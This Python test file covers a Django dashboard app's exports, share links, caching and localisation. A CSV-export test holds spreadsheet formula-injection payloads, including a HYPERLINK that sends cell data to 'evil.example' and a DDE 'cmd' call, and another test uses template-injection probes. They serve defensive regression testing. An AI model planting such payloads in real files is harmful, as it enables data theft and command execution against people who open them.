"""The dashboard pages, exports and the public share link."""

import csv
import io
import re

import pytest

from accounts.models import Role
from tests.dashboards.helpers import make_history
from tests.factories import PASSWORD, ZoneFactory, member


@pytest.fixture
def history(community):
    return make_history(community)


JANUARY = {"period": "month", "date_from": "2025-01-01"}


@pytest.fixture
def as_role(client, community):
    def login(role):
        user = member(community, role, first_name="Jeanne", last_name="Agentname")
        client.force_login(user)
        return client

    return login


@pytest.mark.parametrize("role", [Role.VIEWER, Role.DISPATCHER, Role.ADMIN])
def test_viewer_and_up_see_the_dashboard(as_role, role, history):
    response = as_role(role).get("/dashboards/", JANUARY)
    assert response.status_code == 200
    page = response.content.decode()
    assert 'data-kpi="cleanings"' in page and ">4<" in page
    assert "/static/vendor/leaflet/leaflet.js" in page


def test_agents_and_strangers_do_not(client, as_role, history):
    assert client.get("/dashboards/").status_code == 302  # to the log-in page
    assert as_role(Role.AGENT).get("/dashboards/").status_code == 403


def test_page_loads_nothing_from_other_origins(as_role, history):
    page = as_role(Role.VIEWER).get("/dashboards/", JANUARY).content.decode()
    external = re.findall(r"""(?:src|href)=["'](https?:)?//[^"']+""", page)
    assert external == []
    # Without the CSP nonces: random letters, one of them once read "…bcdng…" (a fresh clone's run).
    text = re.sub(r"""nonce=["'][^"']*["']""", "", page).lower()
    assert "nonce" in page and "cdn" not in text and "jquery" not in text


def test_bad_filter_is_a_400_naming_it(as_role):
    response = as_role(Role.VIEWER).get("/dashboards/", {"period": "decade"})
    assert response.status_code == 400 and b'data-field="period"' in response.content


def test_a_bad_period_is_said_in_french_next_to_its_field_on_the_dashboard(as_role):
    """RGAA 11.10: not a separate page "date_to: is before date_from."; the form again, the
    end date marked invalid and tied to its French message, what was typed kept."""
    bad = {"period": "custom", "date_from": "2025-03-10", "date_to": "2025-03-01"}
    response = as_role(Role.VIEWER).get("/dashboards/", bad)
    assert response.status_code == 400
    page = response.content.decode()
    field = re.search(r"<input id=\"f-to\"[^>]*>", page)
    assert field is not None
    assert 'aria-invalid="true"' in field.group(0) and 'aria-describedby="f-to-error"' in field.group(0)
    assert 'value="2025-03-01"' in field.group(0)
    assert re.search(r'<input id="f-from"[^>]*value="2025-03-10"', page)
    error = re.search(r'<span class="error" id="f-to-error" data-field="date_to">([^<]*)</span>', page)
    assert error is not None and error.group(1) == "La date de fin est avant la date de début."
    assert "is before" not in page and 'data-kpi="cleanings"' not in page
    assert page.count('aria-invalid="true"') == 1
    english = as_role(Role.VIEWER).get("/dashboards/", bad, HTTP_ACCEPT_LANGUAGE="en")
    assert "The end date is before the start date." in english.content.decode()


def test_district_filter_of_another_community_is_refused(as_role, other_community):
    zone = ZoneFactory(community=other_community)
    response = as_role(Role.VIEWER).get("/dashboards/", {"zone": zone.pk})
    assert response.status_code == 400


def test_csv_exports(as_role, history):
    client = as_role(Role.VIEWER)
    for table in ("districts", "sites", "streets", "months"):
        response = client.get(f"/dashboards/export/{table}.csv", JANUARY)
        assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
        rows = list(csv.reader(io.StringIO(response.content.decode())))
        assert len(rows[0]) >= 4
    sites = list(
        csv.DictReader(io.StringIO(client.get("/dashboards/export/sites.csv", JANUARY).content.decode()))
    )
    assert [int(r["removals"]) for r in sites] == [2, 1, 1]


def test_hotspots_geopackage_is_readable(as_role, history, tmp_path):
    import geopandas as gpd

    response = as_role(Role.VIEWER).get("/dashboards/export/hotspots.gpkg", JANUARY)
    assert response.status_code == 200
    path = tmp_path / "hotspots.gpkg"
    path.write_bytes(response.content)
    frame = gpd.read_file(path, layer="hotspots")
    assert frame.crs.to_epsg() == 4326 and len(frame) == 3
    assert frame.iloc[0]["returns"] == 1 and frame.iloc[0]["site_id"] == history["a"].pk


def test_printable_report(as_role, history):
    response = as_role(Role.VIEWER).get("/dashboards/report/", JANUARY)
    assert response.status_code == 200 and b"data-print" in response.content


def test_public_link_has_no_personal_data(client, community, as_role, history):
    admin = as_role(Role.ADMIN)
    assert as_role(Role.VIEWER).post("/dashboards/share/").status_code == 403
    admin = member(community, Role.ADMIN)
    client.force_login(admin)
    page = client.post("/dashboards/share/", JANUARY).content.decode()
    url = re.search(r'id="share-url" type="text" readonly value="([^"]+)"', page).group(1)
    url = url.replace("&amp;", "&")
    client.logout()
    public = client.get(url)
    assert public.status_code == 200
    body = public.content.decode()
    assert 'data-kpi="cleanings"' in body
    for personal in ("Agentname", "Jeanne", history["team"].name, "photo", PASSWORD):
        assert personal not in body
    assert 'name="team"' not in body
    assert client.get(url.split("?")[0], {**JANUARY, "team": history["team"].pk}).status_code == 400
    token = url.split("?")[0].rstrip("/").rsplit("/", 1)[1]
    exported = client.get(f"/dashboards/public/{token}/export/sites.csv", JANUARY).content.decode()
    assert "Agentname" not in exported and history["team"].name not in exported
    tile = client.get("/tiles/heatmap/14/8207/5863.png", {"share": token})
    assert tile.status_code == 200 and tile["Cache-Control"].startswith("public")
    # Revoking kills the link.
    client.force_login(admin)
    client.post("/dashboards/share/", {"revoke": "1"})
    client.logout()
    assert client.get(url).status_code == 404
    assert client.get(url.split("?")[0]).status_code == 404
    assert client.get("/tiles/heatmap/14/8207/5863.png", {"share": token}).status_code == 403
    assert client.get("/dashboards/public/forged-token/").status_code == 404


def _stamps_read(client, path, query) -> int:
    """How many times serving the page read the state of the data (dashboards/sql/facts_stamp.sql)."""
    from django.core.cache import cache
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    cache.clear()  # the figures are computed, not served from the page cache
    with CaptureQueriesContext(connection) as queries:
        assert client.get(path, query).status_code == 200
    return sum("max(updated_at) FROM interventions_report" in q["sql"] for q in queries.captured_queries)


def test_freshness_is_decided_once_per_page(as_role, community, history, settings):
    """Seven figure reads per page (three periods' KPIs, districts, sites, streets, months):
    the state of the data is read once, before them, not once by each (was 8 times a page)."""
    from dashboards.models import RecurrenceState
    from tests.dashboards.helpers import cleaning

    client = as_role(Role.VIEWER)
    assert _stamps_read(client, "/dashboards/", JANUARY) == 1  # the first view builds the facts
    assert _stamps_read(client, "/dashboards/", JANUARY) == 1  # up to date: read once
    assert _stamps_read(client, "/dashboards/report/", JANUARY) == 1
    # Two periods side by side read the same facts: still once.
    assert _stamps_read(client, "/dashboards/", {**JANUARY, "compare": "previous"}) == 1
    assert _stamps_read(client, "/dashboards/export/months.csv", JANUARY) == 1
    assert _stamps_read(client, "/dashboards/export/hotspots.gpkg", JANUARY) == 1
    # The data changed: the check, then the rebuild's own read under its lock, and no other.
    settings.RONDE_RECURRENCE_FRESH_S = 0
    cleaning(community, history["tag"], day="2025-01-25", site=history["c"])
    before = RecurrenceState.objects.get(pk=community.pk).refreshed_at
    assert _stamps_read(client, "/dashboards/", JANUARY) == 2
    assert RecurrenceState.objects.get(pk=community.pk).refreshed_at > before
    page = client.get("/dashboards/", JANUARY).content.decode()
    assert 'data-kpi="cleanings"' in page and ">5<" in page  # the page shows the new removal


def test_background_rebuild_precomputes_the_default_pages(as_role, community, history):
    """The rebuild task stores the unfiltered month/quarter/year figures; the first page view
    after it reads them (not recomputed), filtered views compute their own."""
    import datetime as dt
    import pickle

    from django.core.cache import cache
    from django.utils import timezone

    from dashboards.filters import compare_from_query, filters_from_query
    from dashboards.models import RecurrenceState
    from dashboards.selectors import dashboard_figures, site_history
    from dashboards.services.recurrence import figures_key, figures_precomputed, recurrence_refresh
    from tests.dashboards.helpers import cleaning

    # The page opens on the last complete month: put both removals in it.
    last_month = timezone.localdate().replace(day=1) - dt.timedelta(days=1)
    cleaning(community, history["tag"], day=last_month.isoformat(), site=history["a"])
    cleaning(community, history["tag"], day=(last_month - dt.timedelta(days=1)).isoformat(), dx=500)
    state = recurrence_refresh(community_id=community.pk, precompute=True)
    month = filters_from_query({}, community=community)
    stored = figures_precomputed(state=state, filters=month)
    assert stored is not None
    fresh = dashboard_figures(community=community, filters=month, state=state)
    assert stored["comparison"] == fresh["comparison"] and stored["comparison"].current.cleanings == 2
    assert stored["districts"] == fresh["districts"] and stored["spots"] == fresh["spots"]
    spot = stored["spots"][0]  # the batched histories are each site's own history
    assert stored["histories"][spot.site_id] == site_history(
        community=community, site_id=spot.site_id, limit=10
    )
    for period in ("quarter", "year"):
        assert figures_precomputed(
            state=state, filters=filters_from_query({"period": period}, community=community)
        )
    filtered = filters_from_query({"category": str(history["tag"].pk)}, community=community)
    assert figures_precomputed(state=state, filters=filtered) is None
    # Period B of the two ready-made comparisons too, as the request would compute it.
    for mode in ("last_year", "previous"):
        for period in ("month", "quarter", "year"):
            a = filters_from_query({"period": period}, community=community)
            b = compare_from_query({"compare": mode}, filters=a)
            assert b is not None
            stored_b = figures_precomputed(state=state, filters=b.filters)
            assert stored_b is not None, (mode, period)
            assert (
                stored_b["comparison"]
                == dashboard_figures(community=community, filters=b.filters, state=state)["comparison"]
            )
    custom = compare_from_query(
        {"compare": "custom", "compare_from": "2024-02-03", "compare_to": "2024-03-04"}, filters=month
    )
    assert custom is not None and figures_precomputed(state=state, filters=custom.filters) is None

    # The page shows the stored set: mark it, and the mark appears.
    row = RecurrenceState.objects.get(pk=community.pk)
    sets = pickle.loads(bytes(row.figures))  # noqa: S301 (written by the rebuild above)
    last_year = compare_from_query({"compare": "last_year"}, filters=month)
    assert last_year is not None
    for key, figures in sets.items():
        # < 1000: no thousands separator; period B of "beside last year" marked apart.
        figures["comparison"].current.cleanings = 914 if key == figures_key(last_year.filters) else 913
    row.figures = pickle.dumps(sets)
    row.save(update_fields=["figures"])
    cache.clear()
    client = as_role(Role.VIEWER)
    assert ">913<" in client.get("/dashboards/").content.decode()
    beside = client.get("/dashboards/", {"compare": "last_year"}).content.decode()
    assert ">913<" in beside and ">914<" in beside
    assert ">913<" not in client.get("/dashboards/", {"category": history["tag"].pk}).content.decode()
    # A rebuild inside a request (no precompute) drops sets built from the older facts.
    state = recurrence_refresh(community_id=community.pk)
    assert figures_precomputed(state=state, filters=month) is None
    cache.clear()


FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"clic")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3"]


def assert_no_formula_cells(text: str) -> list[list[str]]:
    """No cell a spreadsheet would run (issue 22); plain numbers, negative ones too, stay numbers."""
    rows = list(csv.reader(io.StringIO(text)))
    for row in rows:
        for cell in row:
            if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
                float(cell)  # only a plain number may start so
    return rows


def test_csv_exports_neutralise_formulas_including_public_links(client, community, as_role, history):
    """Issue 22: a district named `=HYPERLINK(…)` came out unchanged in the exports."""
    for name in FORMULAS:
        ZoneFactory(community=community, kind="district", name=name)  # around the sites
    from accounts.sharing import share_token_make

    token = share_token_make(community=community)
    viewer = as_role(Role.VIEWER)
    for url in ("/dashboards/export/districts.csv", f"/dashboards/public/{token}/export/districts.csv"):
        response = viewer.get(url, JANUARY)
        assert response.status_code == 200, url
        rows = assert_no_formula_cells(response.content.decode())
        names = {row[1] for row in rows[1:]}
        assert names >= {"'" + f for f in FORMULAS}, (url, names)
    for table in ("sites", "streets", "months"):
        assert_no_formula_cells(viewer.get(f"/dashboards/export/{table}.csv", JANUARY).content.decode())


def test_opens_on_the_last_complete_month(as_role, history):
    """Days into a month, the page shows the previous whole month, not a few days against a
    full month (the "-93 %")."""
    import datetime as dt

    from django.utils import timezone

    today = timezone.localdate()
    last_day = today.replace(day=1) - dt.timedelta(days=1)
    page = as_role(Role.VIEWER).get("/dashboards/", HTTP_ACCEPT_LANGUAGE="fr").content.decode()
    assert f'value="{last_day.replace(day=1).isoformat()}"' in page  # the date_from field
    period = re.search(r'<p id="period">([^<]+)', page).group(1)
    assert last_day.strftime("%d/%m/%Y") in period
    assert 'id="partial-note"' not in page


def test_a_running_period_is_compared_like_with_like(community, history):
    """The current month, N days old, is compared with the first N days of the previous one."""
    import datetime as dt

    from django.utils import timezone

    from dashboards.filters import filters_from_query
    from dashboards.selectors import kpis_compare
    from dashboards.services import freshness
    from tests.dashboards.helpers import cleaning

    today = timezone.localdate()
    running = filters_from_query({"period": "month", "date_from": today.isoformat()}, community=community)
    elapsed = (today - running.date_from).days + 1
    previous = running.shifted(previous=True)
    cleaning(community, history["tag"], day=previous.date_from.isoformat(), dx=300)
    first_day_out = previous.date_from + dt.timedelta(days=elapsed)
    if first_day_out < previous.date_to:
        cleaning(community, history["tag"], day=first_day_out.isoformat(), dx=400)
    cleaning(community, history["tag"], day=today.isoformat(), dx=500, hour=0)
    freshness.recurrence_ensure_fresh(community=community)
    comparison = kpis_compare(community=community, filters=running)
    assert comparison.partial_days == elapsed
    assert comparison.current.cleanings == 1 and comparison.previous.cleanings == 1


def test_the_share_link_opens_on_what_was_on_screen(client, community, history):
    admin = member(community, Role.ADMIN)
    client.force_login(admin)
    screen = client.get("/dashboards/", JANUARY).content.decode()
    hidden = dict(re.findall(r'<input type="hidden" name="(\w+)" value="([^"]*)"', screen))
    assert hidden["period"] == "month" and hidden["date_from"] == "2025-01-01"
    page = client.post("/dashboards/share/", hidden).content.decode()
    url = re.search(r'id="share-url" type="text" readonly value="([^"]+)"', page).group(1)
    url = url.replace("&amp;", "&")
    assert "date_from=2025-01-01" in url and "period=month" in url
    client.logout()
    public = client.get(url).content.decode()
    assert 'data-kpi="cleanings"' in public and ">4<" in public
    assert client.post("/dashboards/share/", {"period": "decade"}).status_code == 302  # logged out
    client.force_login(admin)
    assert client.post("/dashboards/share/", {"period": "decade"}).status_code == 400


def test_sites_and_methods_are_named_in_french(as_role, community, history):
    """The recurrent sites read "<street or address> (mur)", never the stored code "(wall)";
    a site's history in its popup names the method in French."""
    from dashboards.selectors import site_history

    history["a"].support = "door"
    history["a"].save(update_fields=["support"])
    visit = site_history(community=community, site_id=history["a"].pk)[0]
    visit.method = "washing/painting"
    assert visit.method_label == "Nettoyage / Recouvrement par peinture"  # French by default
    page = as_role(Role.VIEWER).get("/dashboards/", JANUARY, HTTP_ACCEPT_LANGUAGE="fr").content.decode()
    sites = page.split('id="sites-title"')[1].split("</table>")[0] if 'id="sites-title"' in page else page
    assert "(wall)" not in sites and "(door)" not in sites
    assert "(mur)" in sites


def test_csv_exports_open_in_french_excel(as_role, history):
    """?excel=fr: byte-order mark, `;`, decimal commas, French headers and supports; the
    plain CSV stays machine-readable; another flavour is a 400 naming the field."""
    client = as_role(Role.VIEWER)
    page = client.get("/dashboards/", JANUARY, HTTP_ACCEPT_LANGUAGE="fr").content.decode()
    assert 'data-export="sites-excel"' in page and "pour Excel (français)" in page
    response = client.get(
        "/dashboards/export/sites.csv", {**JANUARY, "excel": "fr"}, HTTP_ACCEPT_LANGUAGE="fr"
    )
    assert response.status_code == 200 and response.content.startswith(b"\xef\xbb\xbf")
    assert "excel" in response["Content-Disposition"]
    text = response.content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    assert rows[0][:4] == ["N° de site", "Rue", "Quartier", "Support"]
    assert rows[1][3] == "Mur" and rows[1][6] == "4,00"  # 2 removals of 2 m² at site A
    assert [int(r[4]) for r in rows[1:]] == [2, 1, 1]
    plain = client.get("/dashboards/export/sites.csv", JANUARY).content.decode()
    assert plain.startswith("site_id,street") and "4.00" in plain
    bad = client.get("/dashboards/export/sites.csv", {**JANUARY, "excel": "de"})
    assert bad.status_code == 400 and bad.json()["field"] == "excel"


def test_the_heatmap_sits_on_the_streets_with_a_metric_scale(as_role, community, history):
    """#18: the dashboard map draws the community's own streets (named) under the heatmap,
    offline, and its scale bar is in metres only."""
    from tests.factories import StreetSegmentFactory

    StreetSegmentFactory(community=community, name="Rue de la Cloche Perse")
    page = as_role(Role.VIEWER).get("/dashboards/", JANUARY).content.decode()
    assert "Rue de la Cloche Perse" in page
    assert "imperial: false" in page and "control.scale({metric: true" in page
    assert "imperial: true" not in page


def test_the_report_downloads_as_a_pdf(as_role, client, community, history):
    """#18: a PDF of the report for a council meeting, from the dashboard and the public link."""
    from pypdf import PdfReader

    viewer = as_role(Role.VIEWER)
    page = viewer.get("/dashboards/", JANUARY, HTTP_ACCEPT_LANGUAGE="fr").content.decode()
    assert 'data-export="report-pdf"' in page and "Rapport (PDF)" in page
    response = viewer.get("/dashboards/report/", {**JANUARY, "format": "pdf"}, HTTP_ACCEPT_LANGUAGE="fr")
    assert response.status_code == 200 and response["Content-Type"] == "application/pdf"
    text = "".join(p.extract_text() for p in PdfReader(io.BytesIO(response.content)).pages)
    assert "Poitiers" in text or community.name in text
    assert "Tags effacés" in text and "01/01/2025" in text


def test_a_running_month_says_what_it_is_compared_with(as_role, history):
    from django.utils import timezone

    today = timezone.localdate()
    page = (
        as_role(Role.VIEWER)
        .get("/dashboards/", {"period": "month", "date_from": today.isoformat()}, HTTP_ACCEPT_LANGUAGE="fr")
        .content.decode()
    )
    note = re.search(r'<p id="partial-note">([^<]+)', page).group(1)
    assert note.startswith("Période en cours") and (str(today.day) in note or "premier jour" in note)


def test_names_from_imported_data_are_shown_as_text_never_evaluated(as_role, community, history):
    """Street and district names come from files a community imports: the map shows them as
    they are. (The map's layers were compiled as Jinja templates on the server: "{{ 6 * 7 }}"
    in a street name came out as "42".)"""
    from tests.factories import StreetSegmentFactory

    StreetSegmentFactory(community=community, name="Rue {{ 6 * 7 }}")
    ZoneFactory(community=community, name="Quartier {{ 7 * 7 }}", kind="district")
    page = as_role(Role.VIEWER).get("/dashboards/", JANUARY).content.decode()
    assert "Rue {{ 6 * 7 }}" in page and "Rue 42" not in page
    assert "Quartier {{ 7 * 7 }}" in page and "Quartier 49" not in page


def _script_nonces(response) -> tuple[str, set[str]]:
    """The CSP nonce of a response, and the nonces of the page's inline scripts."""
    csp = response["Content-Security-Policy"]
    nonce = csp.split("'nonce-")[1].split("'")[0]
    return nonce, set(re.findall(r'<script nonce="([^"]*)"', response.content.decode()))


def test_the_map_is_drawn_once_per_worker_until_what_it_shows_changes(as_role, community, history):
    """The page's map (folium, the base map's streets merged by the database) is kept by the
    worker: a second view neither merges the streets again nor draws another map; every view
    gets its own CSP nonce; new streets, another language, another shade redraw it."""
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    from tests.factories import StreetSegmentFactory

    StreetSegmentFactory(community=community, name="Rue de la Cathédrale")
    client = as_role(Role.VIEWER)
    first = client.get("/dashboards/", JANUARY, HTTP_ACCEPT_LANGUAGE="fr")
    with CaptureQueriesContext(connection) as queries:
        second = client.get("/dashboards/", JANUARY, HTTP_ACCEPT_LANGUAGE="fr")
    merged = [q for q in queries.captured_queries if "ST_LineMerge" in q["sql"]]
    assert merged == []  # the base map was not built again
    assert len(queries.captured_queries) <= 10  # session, user, membership, freshness, the page
    for response in (first, second):
        nonce, inline = _script_nonces(response)
        assert inline == {nonce}  # folium's own inline script runs under this page's nonce
    assert _script_nonces(first)[0] != _script_nonces(second)[0]
    page = second.content.decode()
    assert "Rue de la Cathédrale" in page and "Sites les plus récurrents" in page
    # The map's variable names are the same: it is the kept map, not a new one.
    names = re.findall(r"var (map_[0-9a-f]+) = L\.map", page)
    assert names and names == re.findall(r"var (map_[0-9a-f]+) = L\.map", first.content.decode())

    StreetSegmentFactory(community=community, name="Rue des Carmes")
    page = client.get("/dashboards/", JANUARY, HTTP_ACCEPT_LANGUAGE="fr").content.decode()
    assert "Rue des Carmes" in page and "Rue de la Cathédrale" in page
    english = client.get("/dashboards/", JANUARY, HTTP_ACCEPT_LANGUAGE="en").content.decode()
    assert "Top recurrent sites" in english and "Sites les plus récurrents" not in english
    volume = client.get("/dashboards/", {**JANUARY, "shade": "volume"}).content.decode()
    assert re.findall(r"var (map_[0-9a-f]+) = L\.map", volume) != names


def test_two_periods_side_by_side_keep_their_maps_together(as_role, community, history):
    """The second map draws the first one's streets (by its variable name): kept together,
    they still name each other after being served from the worker's memory."""
    client = as_role(Role.VIEWER)
    query = {**JANUARY, "compare": "previous"}
    for _ in range(2):
        response = client.get("/dashboards/", query)
        page = response.content.decode()
        reused = re.findall(r"L\.geoJSON\((geo_json_layer_[0-9a-f]+)\.toGeoJSON\(\)", page)
        assert len(reused) == 1  # the second map draws the first one's streets…
        assert f"var {reused[0]} = L.geoJSON({{" in page  # …which the first map defines
        nonce, inline = _script_nonces(response)
        assert inline == {nonce}
